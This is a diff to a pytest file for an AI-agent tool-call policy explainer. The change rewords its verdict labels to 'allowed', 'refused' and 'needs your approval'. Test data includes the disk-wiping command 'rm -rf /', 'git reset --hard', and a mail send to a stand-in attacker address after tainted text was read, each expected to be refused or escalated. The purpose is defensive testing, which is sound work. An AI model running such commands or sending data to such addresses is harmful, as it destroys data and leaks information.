@@ -22,28 +22,33 @@ def test_verdict_stands_first_then_why_and_what_each_stage_said(capsys: pytest.C
     supposed = Supposed(tainted=True, words="write a summary to bob@example.com")
     explain_call(GUARDING, "mail_send", '{"to": "eve@evil.example", "body": "x"}', supposed)
     lines = capsys.readouterr().out.splitlines()
-    assert lines[0].startswith("ask: What could send data out needs approval")
+    assert lines[0].startswith("needs your approval: What could send data out needs approval")
     assert lines[0].endswith("(taint.sends)")
     assert lines[1] == "  because it could send data out, and your own words do not name where to"
-    assert lines[2] == "effects: send; tier 2"
-    assert "  effects and taint  ask (taint.sends)" in lines
+    assert lines[2] == "effects: it would send something to somebody; risk 2 of 2 (0 reads, 1 writes)"
+    assert "  effects, after text of others was read   needs your approval (taint.sends)" in lines
     assert lines[-1] == "you can approve it only once"
 
 
 @pytest.mark.parametrize(
     ("tool", "text", "supposed", "said"),
     [
-        ("exec", "git status", Supposed(), "allow: "),
-        ("exec", "git status", Supposed(mode=Mode.READ_ONLY), "deny: "),
-        ("exec", "git reset --hard", Supposed(), "ask: "),
-        ("exec", "git reset --hard", Supposed(unattended=True), "deny: No one could be asked"),
-        ("exec", "rm -rf /", Supposed(mode=Mode.FULL), "deny: Commands that destroy disks"),
-        ("read", "notes.md", Supposed(sender=SenderClass.STRANGER), "deny: "),
-        ("read", "notes.md", Supposed(group=True), "ask: Private content of the owner is not read"),
-        ("mail_send", "bob@example.com", Supposed(tainted=True, words="mail bob@example.com"), "allow: "),
-        ("mail_send", "bob@example.com", Supposed(SenderClass.MEMBER, words="mail bob@example.com"), "ask: "),
-        ("read", "[1]", Supposed(), "allow: "),
-        ("read", "{", Supposed(), "deny: The arguments are not a JSON object"),
+        ("exec", "git status", Supposed(), "allowed: "),
+        ("exec", "git status", Supposed(mode=Mode.READ_ONLY), "refused: "),
+        ("exec", "git reset --hard", Supposed(), "needs your approval: "),
+        ("exec", "git reset --hard", Supposed(unattended=True), "refused: No one could be asked"),
+        ("exec", "rm -rf /", Supposed(mode=Mode.FULL), "refused: Commands that destroy disks"),
+        ("read", "notes.md", Supposed(sender=SenderClass.STRANGER), "refused: "),
+        ("read", "notes.md", Supposed(group=True), "needs your approval: Private content of the owner is not read"),
+        ("mail_send", "bob@example.com", Supposed(tainted=True, words="mail bob@example.com"), "allowed: "),
+        (
+            "mail_send",
+            "bob@example.com",
+            Supposed(SenderClass.MEMBER, words="mail bob@example.com"),
+            "needs your approval: ",
+        ),
+        ("read", "[1]", Supposed(), "allowed: "),
+        ("read", "{", Supposed(), "refused: The arguments are not a JSON object"),
     ],
 )
 def test_call_is_judged_as_in_the_turn_that_is_supposed(
@@ -56,7 +61,7 @@ def test_call_is_judged_as_in_the_turn_that_is_supposed(
 def test_tool_that_is_not_there_is_taken_at_its_worst(capsys: pytest.CaptureFixture[str]) -> None:
     explain_call(GUARDING, "mcp_thing", "{}", Supposed())
     said = capsys.readouterr().out
-    assert said.startswith("ask: ")
+    assert said.startswith("needs your approval: ")
     assert "there is no tool mcp_thing here, so the strictest rules were used" in said
 
 
@@ -78,7 +83,7 @@ def test_command_needs_no_daemon_and_touches_nothing(tmp_path: Path) -> None:
     environ["HOB_SANDBOX_BACKEND"] = BACKEND
     hob = (sys.executable, "-m", "hob", "policy", "explain")
     asked = subprocess.run((*hob, "exec", "git reset --hard"), env=environ, capture_output=True, text=True, check=True)
-    assert asked.stdout.startswith("ask: ")
+    assert asked.stdout.startswith("needs your approval: ")
     arguments = ("exec", "git reset --hard", "--as", "member", "--json")
     denied = subprocess.run((*hob, *arguments), env=environ, capture_output=True, text=True, check=True)
     assert json.loads(denied.stdout)["verdict"] == "deny"
